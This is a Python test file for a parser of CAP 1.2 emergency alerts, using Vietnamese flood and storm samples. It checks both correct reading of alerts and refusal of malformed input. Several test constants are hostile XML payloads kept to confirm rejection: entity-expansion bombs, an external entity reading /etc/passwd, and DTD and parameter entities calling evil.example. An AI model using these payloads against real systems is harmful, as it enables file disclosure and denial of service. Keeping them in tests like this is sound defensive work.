"""CAP 1.2 documents: read in full when they are alerts, refused with field and reason when they are not."""

from __future__ import annotations

import random
import re
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.model.text import catalogue
from server.cap.alert import AlertScope, Category, MsgType, Response, Severity, Status, Urgency
from server.cap.document import parse
from server.cap.schema import NAMESPACE
from server.cap.xml import MAX_BYTES, CapError
from tests.unit.server.cap_samples import AROUND, STORM, an_alert, an_info, at

FLOOD = an_alert()
ENGLISH = re.compile(r"\b(is|not|must|Remove|Send|Write|Keep)\b")


def flaw(data: bytes) -> CapError:
    with pytest.raises(CapError) as refused:
        parse(data)
    said = refused.value.why.text("vi")
    assert not ENGLISH.search(said), said
    assert said.endswith(".")
    return refused.value


def without(name: str, data: bytes = FLOOD) -> bytes:
    changed = re.sub(rf"<{name}>.*?</{name}>".encode(), b"", data, count=1, flags=re.DOTALL)
    assert changed != data
    return changed


def swapped(old: str, new: str, data: bytes = FLOOD) -> bytes:
    assert old.encode() in data
    return data.replace(old.encode(), new.encode(), 1)


# --- alerts ------------------------------------------------------------------------------------------


def test_a_flood_warning_is_read_with_all_it_says() -> None:
    alert = parse(FLOOD)
    assert (alert.status, alert.msg_type, alert.scope) == (Status.ACTUAL, MsgType.ALERT, AlertScope.PUBLIC)
    assert alert.sent == datetime(2026, 11, 22, 9, 55, tzinfo=UTC)
    assert not alert.signed
    (info,) = alert.infos
    assert info.language == "vi-VN"
    assert info.event == "Lũ"
    assert info.event_codes == (("KTTV", "LU-03"),)
    assert info.parameters == (("mucNuocCm", "235"),)
    assert (info.severity, info.urgency) == (Severity.SEVERE, Urgency.IMMEDIATE)
    assert info.instruction.startswith("Bà con ven sông")
    assert info.areas[0].polygons[0][1] == (9.4, 105.0)


def test_a_storm_warning_with_prefix_resource_circle_and_signature_is_read() -> None:
    alert = parse(STORM)
    assert alert.signed
    (info,) = alert.infos
    assert info.categories == (Category.MET, Category.SAFETY)
    assert info.responses == (Response.SHELTER, Response.PREPARE)
    assert info.description == "Gió cấp 12, giật cấp 15 & sóng cao 7 m."
    assert info.areas[0].circles[0].radius_km == 60
    assert info.onset == datetime(2026, 11, 22, 18, 0, tzinfo=UTC)


def test_the_language_is_american_english_where_none_is_given_as_the_standard_says() -> None:
    assert parse(without("language")).infos[0].language == "en-US"
    assert parse(swapped("<language>vi-VN</language>", "<language/>")).infos[0].language == "en-US"


def test_the_value_of_a_code_may_be_empty_as_real_feeds_have_it() -> None:
    alert = parse(swapped("<value>LU-03</value>", "<value></value>"))
    assert alert.infos[0].event_codes == (("KTTV", ""),)


def test_references_name_sender_identifier_and_moment() -> None:
    data = an_alert(
        msg_type="Update",
        references=f"a@b.vn,X-1,{at(-60)}\n  a@b.vn,X-2,2026-11-22T08:00:00-00:00",
    )
    first, second = parse(data).references
    assert (first.sender, first.identifier) == ("a@b.vn", "X-1")
    assert second.sent == datetime(2026, 11, 22, 8, 0, tzinfo=UTC)


def test_text_is_composed_unicode() -> None:
    assert parse(an_alert(an_info(event="Lu\u0303"))).infos[0].event == "Lũ"


# --- what is no alert --------------------------------------------------------------------------------

NOT_ALERTS = {
    "empty": b"",
    "spaces": b"   \n",
    "json": b'{"identifier": "VN-1", "status": "Actual"}',
    "html": b"<!DOCTYPE html><html><body>502 Bad Gateway</body></html>",
    "html without doctype": b"<html><body>Login</body></html>",
    "rss": b'<?xml version="1.0"?><rss version="2.0"><channel><item><title>L\xc5\xa9</title></item></channel></rss>',
    "atom": b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>x</title></entry></feed>',
    "cap 1.1": FLOOD.replace(b"cap:1.2", b"cap:1.1"),
    "cap 1.0": FLOOD.replace(NAMESPACE.encode(), b"http://www.incident.com/cap/1.0"),
    "no namespace": FLOOD.replace(f' xmlns="{NAMESPACE}"'.encode(), b""),
    "namespace with a slash": FLOOD.replace(NAMESPACE.encode(), NAMESPACE.encode() + b"/"),
    "two roots": FLOOD + b"<alert/>",
    "edxl wrapper": b'<EDXLDistribution xmlns="urn:oasis:names:tc:emergency:EDXL:DE:1.0">'
    + FLOOD[FLOOD.index(b"<alert") :]
    + b"</EDXLDistribution>",
    "info alone": b'<info xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>',
    "utf-16": FLOOD.decode().encode("utf-16"),
    "latin-1": FLOOD.replace(b"UTF-8", b"ISO-8859-1"),
    "xml 1.1": FLOOD.replace(b'version="1.0"', b'version="1.1"'),
    "utf-7": FLOOD.replace(b"UTF-8", b"UTF-7"),
    "zip": b"PK\x03\x04" + bytes(200),
    "nul": FLOOD + b"\0",
    "undefined entity": swapped("Lũ</event>", "L&utilde;</event>"),
    "stylesheet": FLOOD.replace(b"<!-- ", b'<?xml-stylesheet href="x.xsl"?><!-- '),
}


@pytest.mark.parametrize("name", NOT_ALERTS)
def test_what_is_no_alert_is_refused(name: str) -> None:
    assert flaw(NOT_ALERTS[name]).field == "body"


def test_a_document_cut_off_anywhere_is_refused() -> None:
    whole = FLOOD.rstrip()
    for length in range(len(whole)):
        with pytest.raises(CapError):
            parse(whole[:length])


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + f']><alert xmlns="{NAMESPACE}"><identifier>&a9;</identifier></alert>'
).encode()
QUADRATIC = (
    f'<!DOCTYPE alert [<!ENTITY a "{"x" * 50_000}">]><alert xmlns="{NAMESPACE}">{"&a;" * 20_000}</alert>'
).encode()
EXTERNAL = (
    '<!DOCTYPE alert [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    f'<alert xmlns="{NAMESPACE}"><identifier>&x;</identifier></alert>'
).encode()
EXTERNAL_DTD = f'<!DOCTYPE alert SYSTEM "http://evil.example/x.dtd"><alert xmlns="{NAMESPACE}"/>'.encode()
PARAMETER = b'<!DOCTYPE alert [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><alert/>'


@pytest.mark.parametrize("bomb", [LAUGHS, QUADRATIC, EXTERNAL, EXTERNAL_DTD, PARAMETER])
def test_a_bomb_is_refused_before_it_is_unpacked(bomb: bytes) -> None:
    began_s = time.monotonic()
    assert flaw(bomb).why.key == "cap.doctype"
    assert time.monotonic() - began_s < 0.5


def test_deep_wide_and_large_documents_are_refused() -> None:
    inside = "<a>" * 5000 + "</a>" * 5000
    assert flaw(f'<alert xmlns="{NAMESPACE}">{inside}</alert>'.encode()).why.key == "cap.deep"
    assert flaw(f'<alert xmlns="{NAMESPACE}">{"<a/>" * 6000}</alert>'.encode()).why.key == "cap.many_elements"
    assert flaw(b" " * (MAX_BYTES + 1)).why.key == "cap.too_large"
    assert flaw(b"<" * MAX_BYTES).why.key == "cap.not_xml"
    attributes = " ".join(f'a{n}="x"' for n in range(20_000))
    assert flaw(f'<alert xmlns="{NAMESPACE}" {attributes}></alert>'.encode()).why.key == "cap.attribute"


def test_a_description_of_100_kb_is_refused_by_name() -> None:
    refused = flaw(an_alert(an_info(description="Nước lên. " * 10_000)))
    assert (refused.field, refused.why.key) == ("description", "wrong.long_text")


def test_text_in_pieces_counts_as_one() -> None:
    pieces = "<!-- x -->".join(["a" * 1000] * 30)
    assert flaw(an_alert(an_info(description=pieces))).why.key == "wrong.long_text"


@pytest.mark.parametrize("char", ["\x07", "&#7;", "&#x1b;", "&#x9d;", "&#13;", "\u0085"])
def test_control_characters_are_refused(char: str) -> None:
    assert flaw(an_alert(an_info(headline=f"Lũ{char}"))).why.key in ("cap.not_xml", "wrong.control")


# --- the schema --------------------------------------------------------------------------------------

REQUIRED = {
    "identifier": "identifier",
    "sender": "sender",
    "sent": "sent",
    "status": "status",
    "msgType": "msgType",
    "scope": "scope",
    "category": "info[0].category",
    "event": "info[0].event",
    "urgency": "info[0].urgency",
    "severity": "info[0].severity",
    "certainty": "info[0].certainty",
    "areaDesc": "info[0].area[0].areaDesc",
    "valueName": "info[0].eventCode[0].valueName",
    "value": "info[0].eventCode[0].value",
}


@pytest.mark.parametrize("name", REQUIRED)
def test_every_required_element_is_missed_by_name(name: str) -> None:
    refused = flaw(without(name))
    assert (refused.field, refused.why.key) == (REQUIRED[name], "cap.missing")


@pytest.mark.parametrize("name", [one for one in REQUIRED if one != "value"])
def test_a_required_element_is_not_empty(name: str) -> None:
    data = re.sub(rf"<{name}>.*?</{name}>".encode(), f"<{name}> </{name}>".encode(), FLOOD, count=1)
    assert flaw(data).field.startswith(REQUIRED[name])


SINGLE = [
    "identifier",
    "sender",
    "sent",
    "status",
    "msgType",
    "source",
    "scope",
    "language",
    "event",
    "urgency",
    "severity",
    "certainty",
    "expires",
    "senderName",
    "headline",
    "description",
    "instruction",
    "web",
    "areaDesc",
    "valueName",
    "value",
]


@pytest.mark.parametrize("name", SINGLE)
def test_what_stands_once_is_refused_twice(name: str) -> None:
    found = re.search(rf"<{name}>.*?</{name}>".encode(), FLOOD, re.DOTALL)
    assert found
    data = FLOOD.replace(found[0], found[0] * 2, 1)
    refused = flaw(data)
    assert (refused.field.rpartition(".")[2], refused.why.key) == (name, "cap.repeated")


@pytest.mark.parametrize(
    ("old", "new", "field", "key"),
    [
        ("<status>Actual", "<status>actual", "status", "cap.choice"),
        ("<status>Actual", "<status> Actual", "status", "cap.choice"),
        ("<msgType>Alert", "<msgType>Alerts", "msgType", "cap.choice"),
        ("<scope>Public", "<scope>Everybody", "scope", "cap.choice"),
        ("<category>Met", "<category>Flood", "info[0].category[0]", "cap.choice"),
        ("<responseType>Evacuate", "<responseType>Run", "info[0].responseType[0]", "cap.choice"),
        ("<certainty>Observed", "<certainty>Very Likely", "info[0].certainty", "cap.choice"),
        ("<severity>Severe", "<severity>5", "info[0].severity", "cap.choice"),
        ("VN-KTTV-2026-5512", "VN KTTV", "identifier", "cap.identifier"),
        ("VN-KTTV-2026-5512", "VN,KTTV", "identifier", "cap.identifier"),
        ("VN-KTTV-2026-5512", "VN&amp;KTTV", "identifier", "cap.identifier"),
        ("VN-KTTV-2026-5512", "VN&lt;KTTV", "identifier", "cap.identifier"),
        ("VN-KTTV-2026-5512", "x" * 300, "identifier", "cap.identifier"),
        ("<sender>", "<sender>a b", "sender", "cap.identifier"),
        ("T16:55:00+07:00", "T16:55:00Z", "sent", "cap.time"),
        ("T16:55:00+07:00", "T16:55:00", "sent", "cap.time"),
        ("T16:55:00+07:00", "T16:55:00.5+07:00", "sent", "cap.time"),
        ("T16:55:00+07:00", "T25:55:00+07:00", "sent", "cap.time"),
        ("T16:55:00+07:00", "T16:55:00+15:00", "sent", "cap.time"),
        ("T16:55:00+07:00", "T16:55:00+07:60", "sent", "cap.time"),
        ("2026-11-22T16:55", "2026-02-30T16:55", "sent", "cap.time"),
        ("2026-11-22T16:55:00+07:00", "0001-01-01T00:00:00+07:00", "sent", "cap.time"),
        ("2026-11-22T16:55", "٢٠٢٦-11-22T16:55", "sent", "cap.time"),
        ("<language>vi-VN", "<language>tiếng Việt", "info[0].language", "wrong.language"),
        (AROUND, "9.0,105.0 9.4,105.0 9.0,105.0", "info[0].area[0].polygon[0]", "cap.polygon"),
        (AROUND, "9,105 9.4,105 9.4,105.4 9,105.4", "info[0].area[0].polygon[0]", "cap.polygon"),
        (AROUND, "91,105 9,105 9,106 91,105", "info[0].area[0].polygon[0]", "cap.polygon"),
        (AROUND, "9,105 9,106 nan,nan 9,105", "info[0].area[0].polygon[0]", "cap.number"),
        (AROUND, "9,105 9,106 1e2,5 9,105", "info[0].area[0].polygon[0]", "cap.number"),
        (AROUND, "9 105 9 106", "info[0].area[0].polygon[0]", "cap.polygon"),
        (AROUND, "", "info[0].area[0].polygon[0]", "cap.polygon"),
        ("</area>", "<circle>9,105</circle></area>", "info[0].area[0].circle[0]", "cap.circle"),
        ("</area>", "<circle>9,105 -1</circle></area>", "info[0].area[0].circle[0]", "cap.circle"),
        ("</area>", "<circle>9,105 99999</circle></area>", "info[0].area[0].circle[0]", "cap.circle"),
        ("</area>", "<ceiling>5</ceiling></area>", "info[0].area[0].altitude", "cap.missing"),
        ("</area>", "<altitude>high</altitude></area>", "info[0].area[0].altitude", "cap.number"),
        ("<source>", "<test>x</test><source>", "test", "cap.unknown_element"),
        ("<event>", "<event xml:lang='vi'>", "info[0].event", "cap.attribute"),
        (
            "<event>",
            "<event xmlns:x='http://www.w3.org/2001/XMLSchema-instance' x:nil='true'>",
            "info[0].event",
            "cap.attribute",
        ),
        ("<event>", "<event><b>x</b>", "info[0].event", "cap.unknown_element"),
        ("<category>Met</category>", "", "info[0].category", "cap.missing"),
        ("<info>", "<info>Chú ý", "info[0]", "cap.stray_text"),
        ("<source>", "chữ<source>", "body", "cap.stray_text"),
        ("<source>", "<x:y xmlns:x='urn:x'/><source>", "y", "cap.unknown_element"),
        ("<scope>Public", "<scope>Private", "addresses", "cap.missing"),
        ("<scope>Public", "<scope>Restricted", "restriction", "cap.missing"),
        ("<msgType>Alert", "<msgType>Update", "references", "cap.missing"),
        ("<msgType>Alert", "<msgType>Cancel", "references", "cap.missing"),
        ("<msgType>Alert", "<msgType>Ack", "references", "cap.missing"),
    ],
)
def test_a_wrong_value_is_refused_by_its_field(old: str, new: str, field: str, key: str) -> None:
    refused = flaw(swapped(old, new))
    assert (refused.field, refused.why.key) == (field, key)


def test_elements_stand_in_the_order_of_the_schema() -> None:
    status = "<status>Actual</status>"
    refused = flaw(swapped("</alert>", f"{status}</alert>", swapped(status, "")))
    assert (refused.field, refused.why.key) == ("status", "cap.order")


def test_a_signature_stands_at_the_end_and_nowhere_else() -> None:
    signature = '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><x/></Signature>'
    assert parse(swapped("</alert>", f"{signature}</alert>")).signed
    assert flaw(swapped("<identifier>", f"{signature}<identifier>")).why.key == "cap.unknown_element"


@pytest.mark.parametrize("times", [at(-6), at(-5)])
def test_an_alert_ends_after_it_was_sent(times: str) -> None:
    refused = flaw(an_alert(an_info(times=f"<expires>{times}</expires>")))
    assert (refused.field, refused.why.key) == ("info[0].expires", "cap.ends_early")


def test_an_alert_ends_after_it_takes_effect() -> None:
    times = f"<effective>{at(60)}</effective><expires>{at(30)}</expires>"
    assert flaw(an_alert(an_info(times=times))).field == "info[0].expires"


@pytest.mark.parametrize("references", ["x", "a,b", "a,b,c", f"a,b,{at(0)},d", f",b,{at(0)}", "a,b,2026"])
def test_references_are_threes_of_sender_identifier_sent(references: str) -> None:
    assert flaw(an_alert(msg_type="Update", references=references)).field == "references"


def test_more_than_a_hundred_references_are_refused() -> None:
    assert parse(an_alert(msg_type="Update", references=f"a,b,{at(0)} " * 100)).references
    assert flaw(an_alert(msg_type="Update", references=f"a,b,{at(0)} " * 101)).why.key == "cap.references"


# --- anything else -----------------------------------------------------------------------------------


def mutated(random_: random.Random, data: bytes) -> bytes:
    changed = bytearray(data)
    for _ in range(random_.choice((1, 1, 1, 2, 8))):
        where = random_.randrange(len(changed))
        match random_.randrange(5):
            case 0:
                changed[where] ^= 1 << random_.randrange(8)
            case 1:
                changed[where] = random_.randrange(256)
            case 2:
                del changed[where : where + random_.randrange(1, 40)]
            case 3:
                changed[where:where] = bytes(random_.randrange(256) for _ in range(random_.randrange(1, 6)))
            case _:
                other = random_.randrange(len(changed))
                changed[where:where] = changed[other : other + random_.randrange(1, 60)]
        if not changed:
            return b""
    return bytes(changed)


@pytest.mark.slow
@pytest.mark.timeout(240)
def test_twenty_thousand_damaged_documents_are_read_or_refused_and_never_anything_else() -> None:
    random_ = random.Random(20261122)
    read, refused = 0, set[bool]()
    for n in range(20_000):
        data = mutated(random_, (FLOOD, STORM)[n % 2])
        try:
            alert = parse(data)
        except CapError as error:
            refused.add(bool(error.field and error.why.text("vi")))
            continue
        read += 1
        assert NAMESPACE.encode() in data
        assert alert.identifier
        assert alert.sender
        assert alert.sent.tzinfo is UTC
        assert all(one.categories and one.event for one in alert.infos)
    assert refused == {True}
    # Within texts a changed letter leaves an alert; only a signature could tell.
    assert 0 < read < 14_000


def test_damaged_markup_never_changes_what_kind_of_message_it_is() -> None:
    """One flipped bit in a test message must not make it an actual one."""
    data = an_alert(status="Test", msg_type="Alert")
    place = data.index(b"Test</status>")
    for where in range(place - 12, place + 16):
        for bit in range(8):
            changed = bytearray(data)
            changed[where] ^= 1 << bit
            try:
                alert = parse(bytes(changed))
            except CapError:
                continue
            assert alert.status is Status.TEST


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2000))
def test_bytes_at_random_are_refused(data: bytes) -> None:
    with pytest.raises(CapError):
        parse(data)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=60), st.sampled_from(["event", "headline", "status", "polygon", "expires", "sent"]))
def test_any_text_in_any_element_is_read_or_refused(text: str, name: str) -> None:
    data = re.sub(
        rf"<{name}>.*?</{name}>",
        lambda _: f"<{name}>{text}</{name}>",
        FLOOD.decode(),
        count=1,
        flags=re.DOTALL,
    )
    try:
        alert = parse(data.encode("utf-8", "surrogatepass"))
    except CapError:
        return
    assert alert.status in Status


def test_every_flaw_that_the_parser_names_has_words() -> None:
    folder = Path(__file__).resolve().parents[3] / "server"
    sources = "".join(
        path.read_text(encoding="utf-8") for path in (*(folder / "cap").glob("*.py"), folder / "api/cap.py")
    )
    keys = set(re.findall(r'"((?:cap|wrong)\.[a-z0-9_]+)"', sources))
    assert len(keys) > 20
    assert {key for key in keys if f"console.{key}" not in catalogue("vi")} == set()
    told = {
        key.removeprefix("console.") for key in catalogue("vi") if re.fullmatch(r"console\.cap\.[a-z_]+", key)
    }
    assert told - keys == set()
